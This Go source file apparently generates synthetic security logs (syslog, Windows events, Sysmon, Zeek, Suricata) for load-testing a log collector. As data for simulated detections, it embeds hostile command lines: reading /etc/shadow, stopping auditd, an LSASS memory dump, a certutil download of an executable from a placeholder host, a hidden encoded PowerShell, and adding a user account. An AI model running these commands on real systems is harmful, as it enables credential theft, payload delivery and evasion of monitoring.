package loadgen

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"github.com/kuzet-kz/kuzet/internal/registry"
)

// asset is a host the generator impersonates.
type asset struct {
	host string
	ip   string
}

// assetsOf returns hosts of the OISC's registry objects: each exact host
// name, names under each wildcard suffix, and for every object an address
// in each of its CIDRs (with a host name of its own when the object lists
// none), perObject hosts per object at most.
func assetsOf(reg *registry.Registry, oisc string, rnd *rand.Rand) []asset {
	const perObject = 6
	var out []asset
	for _, o := range reg.Objects {
		if o.OISC != oisc {
			continue
		}
		var names []string
		for _, h := range o.Hostnames {
			if suffix, ok := strings.CutPrefix(h, "*."); ok {
				for i := 1; i <= 3; i++ {
					names = append(names, fmt.Sprintf("node-%02d.%s", i, suffix))
				}
				continue
			}
			names = append(names, h)
		}
		var prefixes []netip.Prefix
		for _, c := range o.CIDRs {
			if p, err := netip.ParsePrefix(c); err == nil && p.Addr().Is4() {
				prefixes = append(prefixes, p.Masked())
			}
		}
		if len(names) == 0 {
			for i := 1; i <= 3; i++ {
				names = append(names, fmt.Sprintf("%s-srv-%02d", o.ID, i))
			}
		}
		for i, n := range names {
			if i >= perObject {
				break
			}
			a := asset{host: n}
			if len(prefixes) > 0 {
				a.ip = randomIn(prefixes[i%len(prefixes)], rnd)
			}
			out = append(out, a)
		}
	}
	return out
}

// randomIn returns an address inside p other than its network and
// broadcast addresses.
func randomIn(p netip.Prefix, rnd *rand.Rand) string {
	b := p.Addr().As4()
	base := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	size := uint32(1) << (32 - p.Bits())
	off := uint32(0)
	if size > 2 {
		off = 1 + rnd.Uint32N(size-2)
	}
	v := base + off
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}).String()
}

// users are account names on the impersonated hosts.
var users = []string{"root", "admin", "operator", "scada", "oracle", "backup", "i.petrov", "a.seitkali", "svc_backup", "engineer"}

// attackNets are networks of the attackers.
var attackNets = []string{"185.220.101.", "45.155.205.", "91.240.118.", "194.26.29.", "103.145.13.", "5.188.62."}

// publicFirst are first octets of the Internet background's addresses
// (millions of addresses, a few records each, as real background is).
var publicFirst = []int{5, 31, 37, 45, 62, 77, 85, 91, 95, 103, 109, 176, 178, 185, 188, 193, 194, 195, 212, 217}

var almaty = time.FixedZone("ALMT", 5*3600)

// record is one generated record.
type record struct {
	kind  string
	input string
	data  []byte
}

// generator makes records for one OISC's collector. Not safe for
// concurrent use: each sender has its own.
type generator struct {
	rnd      *rand.Rand
	mix      Mix
	kinds    []string
	cum      []float64 // cumulative weights, normalised
	assets   []asset
	run      string
	attacker []string
	targets  [][]asset
	burst    struct {
		left int
		src  string
		dst  asset
	}
}

func newGenerator(seed uint64, run string, mix Mix, assets []asset, inputs map[string]bool) (*generator, error) {
	g := &generator{rnd: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), mix: mix, run: run, assets: assets}
	total := 0.0
	for _, k := range sortedKeys(mix.Kinds) {
		if w := mix.Kinds[k]; w > 0 && inputs[kindInput[k]] {
			g.kinds = append(g.kinds, k)
			total += w
			g.cum = append(g.cum, total)
		}
	}
	if len(g.kinds) == 0 {
		return nil, fmt.Errorf("no kind of the mix goes to an input this target has")
	}
	for i := range g.cum {
		g.cum[i] /= total
	}
	if len(assets) == 0 {
		return nil, fmt.Errorf("the registry has no objects of this OISC")
	}
	for i := 0; i < mix.Attack.Sources; i++ {
		g.attacker = append(g.attacker, fmt.Sprintf("%s%d", attackNets[i%len(attackNets)], 10+g.rnd.IntN(200)))
		var ts []asset
		for j := 0; j < mix.Attack.Targets; j++ {
			ts = append(ts, assets[g.rnd.IntN(len(assets))])
		}
		g.targets = append(g.targets, ts)
	}
	return g, nil
}

// Marker returns the marker of sequence seq in run.
func Marker(run string, seq uint64) string { return "kzlg-" + run + "-" + strconv.FormatUint(seq, 10) }

func (g *generator) pick(s []string) string { return s[g.rnd.IntN(len(s))] }

func (g *generator) kind() string {
	x := g.rnd.Float64()
	for i, c := range g.cum {
		if x < c {
			return g.kinds[i]
		}
	}
	return g.kinds[len(g.kinds)-1]
}

func (g *generator) host() asset {
	if g.rnd.Float64() < g.mix.UnknownHosts {
		return asset{host: fmt.Sprintf("ws-%04d", g.rnd.IntN(10000)), ip: fmt.Sprintf("192.168.%d.%d", g.rnd.IntN(256), 1+g.rnd.IntN(254))}
	}
	return g.assets[g.rnd.IntN(len(g.assets))]
}

// noise is a background Internet address.
func (g *generator) noise() string {
	return fmt.Sprintf("%d.%d.%d.%d", publicFirst[g.rnd.IntN(len(publicFirst))], g.rnd.IntN(256), g.rnd.IntN(256), 1+g.rnd.IntN(254))
}

// internal is an address of a corporate network.
func (g *generator) internal() string {
	return fmt.Sprintf("10.20.%d.%d", g.rnd.IntN(256), 1+g.rnd.IntN(254))
}

// suspicious reports whether a record should look malicious.
func (g *generator) suspicious() bool { return g.rnd.Float64() < g.mix.Suspicious }

// attack returns the source and target of an authentication failure: in a
// burst (a run of 20 to 200 failures from one attacker on one host) with
// probability attack.share, else background noise on a random host.
func (g *generator) attack() (src string, dst asset) {
	if g.burst.left > 0 {
		g.burst.left--
		return g.burst.src, g.burst.dst
	}
	// A burst averages burstMean records; starting one with this
	// probability makes share of the failures an attack's.
	const burstMean = 110
	if sh := g.mix.Attack.Share; len(g.attacker) > 0 && sh > 0 && (sh >= 1 || g.rnd.Float64() < sh/(burstMean*(1-sh))) {
		i := g.rnd.IntN(len(g.attacker))
		g.burst.src, g.burst.dst = g.attacker[i], g.targets[i][g.rnd.IntN(len(g.targets[i]))]
		g.burst.left = 20 + g.rnd.IntN(2*burstMean-40)
		return g.burst.src, g.burst.dst
	}
	if g.rnd.IntN(4) == 0 {
		return g.noise(), g.host()
	}
	return g.internal(), g.host()
}

// next returns the record of sequence seq, its device time now.
func (g *generator) next(seq uint64, now time.Time) record {
	k := g.kind()
	return record{kind: k, input: kindInput[k], data: g.render(k, Marker(g.run, seq), now)}
}

func (g *generator) render(kind, m string, now time.Time) []byte {
	port := 40000 + g.rnd.IntN(20000)
	pid := 1000 + g.rnd.IntN(30000)
	user := g.pick(users)
	stamp := now.In(almaty).Format(time.Stamp)
	switch kind {
	case KindSSHDFailed5424:
		src, a := g.attack()
		return fmt.Appendf(nil, `<38>1 %s %s sshd %d - [origin@32473 ip="%s"][kzlg@32473 marker="%s"] Failed password for %s from %s port %d ssh2`,
			now.UTC().Format(time.RFC3339Nano), a.host, pid, a.ip, m, user, src, port)
	case KindSSHDAccepted3164:
		a := g.host()
		return fmt.Appendf(nil, "<86>%s %s sshd[%d]: Accepted publickey for %s from 10.20.0.%d port %d ssh2: ED25519 SHA256:%s",
			stamp, a.host, pid, user, 2+g.rnd.IntN(200), port, m)
	case KindSudo3164:
		a := g.host()
		cmd := []string{"/usr/bin/systemctl status nginx", "/usr/bin/journalctl -u sshd", "/usr/bin/apt-get update", "/usr/bin/systemctl restart chronyd", "/usr/bin/tail -n 100 /var/log/syslog"}[g.rnd.IntN(5)]
		if g.suspicious() {
			cmd = []string{"/usr/bin/systemctl stop auditd", "/bin/cat /etc/shadow", "/usr/sbin/iptables -F", "/bin/bash"}[g.rnd.IntN(4)]
		}
		return fmt.Appendf(nil, "<85>%s %s sudo: %s : TTY=pts/%d ; PWD=/home/%s/%s ; USER=root ; COMMAND=%s",
			stamp, a.host, user, g.rnd.IntN(8), user, m, cmd)
	case KindCEF:
		a := g.host()
		sig := []string{"ET SCAN Nmap Scripting Engine User-Agent Detected", "ET EXPLOIT Possible Modbus Write Single Register",
			"ET POLICY Outbound RDP Connection", "GPL ATTACK_RESPONSE id check returned root"}[g.rnd.IntN(4)]
		return fmt.Appendf(nil, "<132>%s ids-01 CEF:0|OISF|Suricata|7.0.3|%d|%s|%d|src=%s spt=%d dst=%s dpt=%d proto=TCP act=alert externalId=%s",
			stamp, 2000000+g.rnd.IntN(10000), sig, 3+g.rnd.IntN(7), g.noise(), port, a.ip, []int{22, 80, 443, 502, 3389}[g.rnd.IntN(5)], m)
	case KindLEEF:
		a := g.host()
		act := []string{"DENY", "ALLOW"}[g.rnd.IntN(2)]
		return fmt.Appendf(nil, "<134>%s pan-fw-01 LEEF:2.0|Palo Alto Networks|PAN-OS Syslog Integration|10.2|TRAFFIC|^|cat=TRAFFIC^src=%s^dst=%s^srcPort=%d^dstPort=%d^proto=tcp^action=%s^usrName=%s^sev=%d^identHostName=%s^sessionId=%s",
			stamp, g.noise(), a.ip, port, []int{22, 445, 3389, 502}[g.rnd.IntN(4)], act, user, 1+g.rnd.IntN(9), a.host, m)
	case KindFortiGate:
		a := g.host()
		local := now.In(almaty)
		return fmt.Appendf(nil, `<189>%s fw-edge-1 date=%s time=%s devname="FG-100F" devid="%s" logid="0000000013" eventtime=%d tz="+0500" type="traffic" subtype="forward" level="warning" srcip=%s srcport=%d dstip=%s dstport=%d proto=6 action="deny" policyid=7`,
			stamp, local.Format("2006-01-02"), local.Format("15:04:05"), m, now.UnixNano(), g.noise(), port, a.ip, g.deniedPort())
	case KindWinLogonFailed:
		src, a := g.attack()
		return winEvent(now, a.host, 4625, "Security", "Microsoft-Windows-Security-Auditing", m,
			`"TargetUserName":%q,"TargetDomainName":"CORP","LogonType":%d,"Status":"0xc000006d","SubStatus":"0xc000006a","IpAddress":%q,"IpPort":"%d","WorkstationName":"-","LogonProcessName":"NtLmSsp"`,
			user, []int{3, 10}[g.rnd.IntN(2)], src, port)
	case KindWinLogon:
		a := g.host()
		return winEvent(now, a.host, 4624, "Security", "Microsoft-Windows-Security-Auditing", m,
			`"TargetUserName":%q,"TargetDomainName":"CORP","LogonType":%d,"IpAddress":"10.20.0.%d","IpPort":"%d","WorkstationName":"WS-%03d","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos"`,
			user, []int{2, 3, 10}[g.rnd.IntN(3)], 2+g.rnd.IntN(200), port, g.rnd.IntN(500))
	case KindSysmonProcess:
		a := g.host()
		proc := benignProcs[g.rnd.IntN(len(benignProcs))]
		if g.suspicious() {
			proc = suspiciousProcs[g.rnd.IntN(len(suspiciousProcs))]
			proc.cmd = strings.ReplaceAll(proc.cmd, "ADDR", g.noise())
		}
		cmd, image, parent := proc.cmd, proc.image, proc.parent
		return winEvent(now, a.host, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", m,
			`"UtcTime":%q,"ProcessId":%d,"Image":%q,"CommandLine":%q,"User":"CORP\\%s","ParentImage":%q,"IntegrityLevel":"Medium","LogonId":"0x3e7"`,
			now.UTC().Format("2006-01-02 15:04:05.000"), pid, image, cmd, user, parent)
	case KindZeekConn:
		a := g.host()
		return fmt.Appendf(nil, `{"_path":"conn","ts":%.6f,"uid":%q,"id.orig_h":%q,"id.orig_p":%d,"id.resp_h":%q,"id.resp_p":%d,"proto":"tcp","service":%q,"duration":%.3f,"orig_bytes":%d,"resp_bytes":%d,"conn_state":"SF"}`,
			float64(now.UnixMicro())/1e6, m, a.ip, port, g.noise(), []int{443, 80, 22, 53}[g.rnd.IntN(4)], []string{"ssl", "http", "ssh", "dns"}[g.rnd.IntN(4)],
			g.rnd.Float64()*30, g.rnd.IntN(100000), g.rnd.IntN(1000000))
	case KindZeekDNS:
		a := g.host()
		q := []string{"update.microsoft.com", "api.telegram.org", "x7f3k.duckdns.org", "egov.kz", "pool.ntp.org"}[g.rnd.IntN(5)]
		return fmt.Appendf(nil, `{"_path":"dns","ts":%.6f,"uid":%q,"id.orig_h":%q,"id.orig_p":%d,"id.resp_h":"10.20.0.2","id.resp_p":53,"proto":"udp","trans_id":%d,"query":%q,"qtype_name":"A","rcode_name":"NOERROR","answers":["%s"]}`,
			float64(now.UnixMicro())/1e6, m, a.ip, port, g.rnd.IntN(65536), q, g.noise())
	case KindSuricataAlert:
		a := g.host()
		sig := []string{"ET SCAN Suspicious inbound to MSSQL port 1433", "ET EXPLOIT Modbus TCP Write Multiple Registers", "ET POLICY SMB2 NT Create AndX Request For an Executable File"}[g.rnd.IntN(3)]
		return fmt.Appendf(nil, `{"timestamp":%q,"flow_id":%d,"in_iface":"eth1","event_type":"alert","src_ip":%q,"src_port":%d,"dest_ip":%q,"dest_port":%d,"proto":"TCP","community_id":"1:%s","alert":{"action":"allowed","gid":1,"signature_id":%d,"rev":3,"signature":%q,"category":"Attempted Information Leak","severity":%d},"host":"ids-02"}`,
			now.UTC().Format("2006-01-02T15:04:05.000000+0000"), g.rnd.Int64N(1<<50), g.noise(), port, a.ip, []int{1433, 502, 445}[g.rnd.IntN(3)], m,
			2000000+g.rnd.IntN(10000), sig, 1+g.rnd.IntN(3))
	}
	return nil
}

// process is a process creation: image, command line and parent image.
type process struct{ image, cmd, parent string }

var benignProcs = []process{
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ru`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
	{`C:\Windows\System32\notepad.exe`, `"C:\Windows\system32\notepad.exe" C:\Users\Public\report.txt`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`},
	{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\Public\budget.xlsx"`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
}

var suspiciousProcs = []process{
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`, `C:\Windows\System32\wbem\WmiPrvSE.exe`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://ADDR/a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\net.exe`, `net.exe user backup P@ss /add`, `C:\Windows\System32\cmd.exe`},
}

// deniedPort is the destination port of a denied connection: mostly web
// and remote access, sometimes (suspicious) telnet or Modbus.
func (g *generator) deniedPort() int {
	if g.suspicious() {
		return []int{23, 502}[g.rnd.IntN(2)]
	}
	return []int{443, 80, 22, 3389, 445, 8080}[g.rnd.IntN(6)]
}

// winEvent renders an event in evtx_dump's JSON shape, one line; the marker
// is the event's ActivityID.
func winEvent(now time.Time, host string, id int, channel, provider, marker, dataFormat string, args ...any) []byte {
	b := fmt.Appendf(nil, `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":%q}},"EventID":%d,"Channel":%q,"Computer":%q,"Correlation":{"#attributes":{"ActivityID":"{%s}"}},"TimeCreated":{"#attributes":{"SystemTime":%q}}},"EventData":{`,
		provider, id, channel, host, marker, now.UTC().Format("2006-01-02T15:04:05.000000Z"))
	b = fmt.Appendf(b, dataFormat, args...)
	return append(b, "}}}"...)
}
